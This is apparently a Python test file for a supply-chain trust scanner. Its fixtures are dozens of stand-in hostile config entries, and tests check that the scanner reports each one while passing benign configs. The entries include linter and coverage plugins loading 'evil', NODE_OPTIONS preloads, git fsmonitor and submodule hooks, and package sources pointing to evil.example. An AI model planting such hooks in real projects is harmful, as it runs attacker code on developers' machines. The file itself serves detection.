"""Where packages come from, plugins that settings load, compiled programs: all of it stands in the list to trust."""

from __future__ import annotations

from pathlib import Path

from mity.trust.build_code import build_code
from rows import each

# by path, with a word behind # where there are several: what is in the file, and what must be shown of it
FILES: dict[str, tuple[str, str]] = {
    "mypy.ini": ("[mypy]\nplugins = ./evil.py\n", ""),
    ".pylintrc": ("[MASTER]\ninit-hook='import evil'\n", ""),
    ".coveragerc": ("[run]\nplugins = evil\n", ""),
    "packages/a/.venv/bin/python": ("x", ""),
    "requirements/base.txt": ("x @ git+https://evil.example/x\n", "evil.example"),
    "vendor/modules.txt": ("# a.b/c v1\n", ""),
    "cgo/x.go": ('package x\n\n// #cgo LDFLAGS: -L. -levil\nimport "C"\n', "cgo"),
    "src/main/resources/META-INF/services/javax.annotation.processing.Processor": ("evil.P\n", ""),
    "src/test/resources/junit-platform.properties": ("x=y\n", ""),
    "lib/evil.jar": ("x", ""),
    "tools/x.so": ("x", ""),
    ".stylelintrc.json": ('{"plugins":["./evil.js"]}', ""),
    ".yarnrc.yml": ("yarnPath: ./x\n", ""),
    "package.json#corepack": ('{"packageManager":"yarn@https://evil.example/yarn.js"}', "evil.example"),
    "package.json#gitdep": ('{"dependencies":{"x":"git+https://evil.example/x"}}', "evil.example"),
    "package.json#babel": ('{"babel":{"plugins":["./evil.js"]}}', "babel"),
    "uv.lock": (
        (
            'version = 1\n[[package]]\nname = "x"\nversion = "1"\nsource = { registry = "https://evil.e'
            'xample/simple" }\n'
        ),
        "evil.example",
    ),
    "poetry.lock": (
        (
            '[[package]]\nname = "x"\nversion = "1"\n[package.source]\ntype = "legacy"\nurl = "https://'
            'evil.example/simple"\n'
        ),
        "evil.example",
    ),
    "Cargo.lock": (
        '[[package]]\nname = "x"\nversion = "1"\nsource = "registry+https://evil.example/index"\n',
        "evil.example",
    ),
    "pyproject.toml#uvsources": ('[project]\nname="x"\n[tool.uv.sources]\ny={path="./evil"}\n', "evil"),
    "pyproject.toml#coverage": ('[tool.coverage.run]\nplugins=["evil"]\n', "evil"),
    "pyproject.toml#pylint": ('[tool.pylint.main]\ninit-hook="import evil"\n', "evil"),
    "pyproject.toml#direct": ('[project]\nname="x"\ndependencies=["y @ https://evil.example/y.whl"]\n', "evil.example"),
    "Cargo.toml#patch": ('[patch.crates-io]\nserde={path="evil"}\n', "evil"),
    "Cargo.toml#linker": ('cargo-features=["x"]\n[package]\nname="x"\nlinks="evil"\n', "evil"),
    "pom.xml#comment": (
        (
            "<project><build><plugins><plugin><!-- </plugin> --><artifactId>evil-plugin</artifactId></p"
            "lugin></plugins></build></project>"
        ),
        "evil-plugin",
    ),
    "x.csproj#sdk": ('<Project Sdk="Evil.Sdk/1.0.0"></Project>', "Evil.Sdk"),
    "x.csproj#analyzer": ("<Project><ItemGroup><Analyzer Include='evil.dll'/></ItemGroup></Project>", "evil.dll"),
    "x.csproj#source": (
        ("<Project><PropertyGroup><RestoreSources>https://evil.example</RestoreSources></PropertyGroup></Project>"),
        "evil.example",
    ),
    "x.csproj#prebuild": (
        "<Project><PropertyGroup><PreBuildEvent>evil.sh</PreBuildEvent></PropertyGroup></Project>",
        "evil.sh",
    ),
    ".python-version": ("./evil/python\n", ""),
    "gradle/init.d/x.gradle": ("x", ""),
    ".gradle/init.gradle": ("x", ""),
    ".env": ("NODE_OPTIONS=--require ./evil.js\n", ""),
    ".env.test": ("PYTEST_ADDOPTS=-p evil\n", ""),
    ".gitmodules": ('[submodule "x"]\n\turl = https://evil.example/x\n\tupdate = !evil\n', ""),
    ".pyre_configuration": ('{"binary":"./evil"}', ""),
    ".golangci.yml": ("linters-settings:\n  custom:\n    x:\n      path: ./evil.so\n", ""),
    "biome.json": ('{"plugins":["./evil.grit"]}', ""),
    "jest.setup.js": ("x", ""),
    "vitest.setup.ts": ("x", ""),
    "src/setupTests.ts": ("x", ""),
    "__mocks__/fs.js": ("x", ""),
    "tests/conftest.py": ("x", ""),
    "package.json#outside": ('{"workspaces":["../evil"]}', "../evil"),
    "package.json#folder": ('{"dependencies":{"x":"../evil"}}', "../evil"),
    "package.json#settings": ('{"config":{"script-shell":"./evil"}}', "config"),
    "package.json#gyp": ('{"gypfile":true}', "gypfile"),
    "package.json#program": ('{"bin":{"node":"./evil.js"}}', "node"),
    "pyproject.toml#task": ('[tool.taskipy.tasks]\ntest = "evil"\n', "taskipy"),
    "pyproject.toml#pytest": ('[tool.pytest]\naddopts = ["-p", "evil"]\n', "pytest"),
    "pyproject.toml#extension": ('[[tool.setuptools.ext-modules]]\nname = "e"\nsources = ["evil.c"]\n', "evil.c"),
    "pyproject.toml#hook": ('[tool.hatch.metadata.hooks.custom]\npath = "evil.py"\n', "evil.py"),
    "Cargo.toml#registry": (
        '[dependencies]\na = {version = "1", registry-index = "https://evil.example/i"}\n',
        "evil.example",
    ),
    "pylock.toml": (
        '[[packages]]\nname = "a"\n[packages.archive]\nurl = "https://evil.example/a.whl"\n',
        "evil.example",
    ),
    "package-lock.json#file": ('{"packages":{"node_modules/a":{"resolved":"file:evil.tgz"}}}', "evil.tgz"),
    "reqs/ci.txt": ("--find-links ./evil\n", "./evil"),
    "pom.xml#cdata": ("<project><plugin><artifactId><![CDATA[evil-c]]></artifactId></plugin></project>", "evil-c"),
    "pom.xml#blank": ("<project><plugin ><artifactId >evil-s</artifactId ></plugin ></project>", "evil-s"),
    "pom.xml#namespace": (
        '<m:project xmlns:m="u"><m:plugin><m:artifactId>evil-n</m:artifactId></m:plugin></m:project>',
        "evil-n",
    ),
    "pom.xml#entity": ('<!DOCTYPE p [<!ENTITY e SYSTEM "x">]><project>&e;</project>', "entities"),
    "pom.xml#damaged": ("<project>", "is not XML"),
    "pom.xml#processor": ("<project><path><artifactId>evil-a</artifactId></path></project>", "evil-a"),
    "tsconfig.json#other": ('{"ts-node":{"require":["./evil.js"]}} // x', "ts-node"),
    "Directory.Packages.props": (
        '<Project><ItemGroup><GlobalPackageReference Include="Evil" Version="1"/></ItemGroup></Project>',
        "Evil",
    ),
    "x.csproj#package": (
        '<Project><PackageReference Include="Evil.A" Version="1" OutputItemType="Analyzer"/></Project>',
        "Evil.A",
    ),
    "x.slnx": ('<Solution><Project Path="../evil/e.csproj"/></Solution>', "../evil/e.csproj"),
    ".huskyrc.js": ("x", ""),
    "unheard-of.config.mjs": ("x", ""),
    "babel-plugin-macros.config.js": ("x", ""),
    ".pnp.loader.mjs": ("x", ""),
    ".pdm-python": ("/tmp/evil/python\n", ""),
    ".lfsconfig": ("[lfs]\n\turl = https://evil.example\n", ""),
    ".gitconfig": ("[core]\n\tfsmonitor = ./evil\n", ""),
    ".ipython/profile_default/startup/x.py": ("x", ""),
    ".nvmrc": ("/tmp/evil\n", "/tmp/evil"),
    "pixi.toml": ("[tasks]\na = 'evil'\n", ""),
    "environment.yml": ("channels: [https://evil.example]\n", ""),
    "flake.nix": ("x", ""),
    "patches/vitest.patch": ("x", ""),
    "boot_amd64.s": ("x", ""),
    "wrangler.toml": ("[build]\ncommand = 'evil'\n", ""),
    "vercel.json": ('{"buildCommand":"evil"}', ""),
    "build.sbt": ("x", ""),
    "common/config/rush/command-line.json": ("{}", ""),
    "pyproject.toml#plugins": ('[tool.poetry.requires-plugins]\nevil = "*"\n', "evil"),
    "features/environment.py": ("x", ""),
}
HONEST: dict[str, str] = {
    "requirements.txt": "fastapi==0.115.0\n-r base.txt\nuvicorn[standard]>=0.30 ; python_version > '3.8'\n",
    "go.mod": "module x\n\ngo 1.22\n\nrequire a.b/c v1.0.0\n",
    "tsconfig.json": '{"compilerOptions": {"strict": true}}',
    "docs/setup.md": "npm install\n",
    "src/x.go": "package x\n",
    ".gitignore": "x\n",
    ".env.example": "PORT=8000\n",
    ".nvmrc": "22\n",
    "compose.yaml": "services: {}\n",
    "openapi.json": "{}\n",
    "config/shop.toml": "a = 1\n",
    "application.yml": "a: 1\n",
    ".node-version": "lts/iron\n",
    ".editorconfig": "root = true\n",
    ".github/workflows/ci.yml": "on: push\n",
    ".vscode/settings.json": "{}\n",
    "docs/.nojekyll": "",
    "public/.well-known/security.txt": "x\n",
    "src/app/settings.config.txt": "x\n",
    "requirements/notes.txt": "words\n",
    "App.slnx": '<Solution><Project Path="src/a.csproj"/></Solution>',
    "pom.xml": "<project><dependencies><dependency><artifactId>a</artifactId></dependency></dependencies></project>",
    "packages/a/package.json": '{"name": "a", "version": "1.0.0", "type": "module", "bin": {"a": "./a.js"}}',
    "packages/a/tsconfig.json": '{"extends": "../tsconfig.json", /* x */ "include": ["src"],}',
    ".python-version": "3.12\n",
    "Cargo.toml": '[package]\nname = "x"\n[lib]\npath = "src/x.rs"\n[dependencies]\nserde = "1"\n',
    "package-lock.json": '{"packages": {"node_modules/x": {"version": "1.0.0"}}}',
    "package.json": '{"name": "x", "dependencies": {"a": "^1.0.0", "b": "workspace:*"}, "homepage": "https://h.example"}',
    "x.csproj": '<Project Sdk="Microsoft.NET.Sdk.Web"><PropertyGroup><A>b</A></PropertyGroup></Project>',
    "pyproject.toml": '[project]\nname = "x"\n[tool.hatch.version]\npath = "src/x/about.py"\n',
}


def shown(root: Path, name: str, text: str) -> list[str]:
    """The lines for a project that has one file."""
    path = root / name.partition("#")[0]
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return build_code(root)


@each("name", FILES)
def test_it_is_shown(tmp_path: Path, name: str) -> None:
    text, said = FILES[name]
    path = name.partition("#")[0]
    lines = shown(tmp_path, name, text)
    assert any(path.startswith(line.partition(": ")[0]) and said in line for line in lines), lines


@each("name", HONEST)
def test_what_is_usual_is_not_shown(tmp_path: Path, name: str) -> None:
    lines = shown(tmp_path, name, HONEST[name])
    assert lines == (["pyproject.toml: build backend setuptools"] if name.startswith("pyproject") else [])


def test_results_that_came_with_a_project_are_shown_at_its_top_alone(tmp_path: Path) -> None:
    for path in ("dist", "build/lib", "src/build", "docs/dist", "app/target", "node_modules/a/node_modules/b"):
        (tmp_path / path).mkdir(parents=True)
    came = "programs that came with the project"
    assert build_code(tmp_path) == [f"build: {came}", f"dist: {came}", f"node_modules: {came}"]


def test_programs_of_a_part_are_shown_too(tmp_path: Path) -> None:
    (tmp_path / "packages/a/node_modules/.bin").mkdir(parents=True)
    assert build_code(tmp_path) == ["packages/a/node_modules: programs that came with the project"]
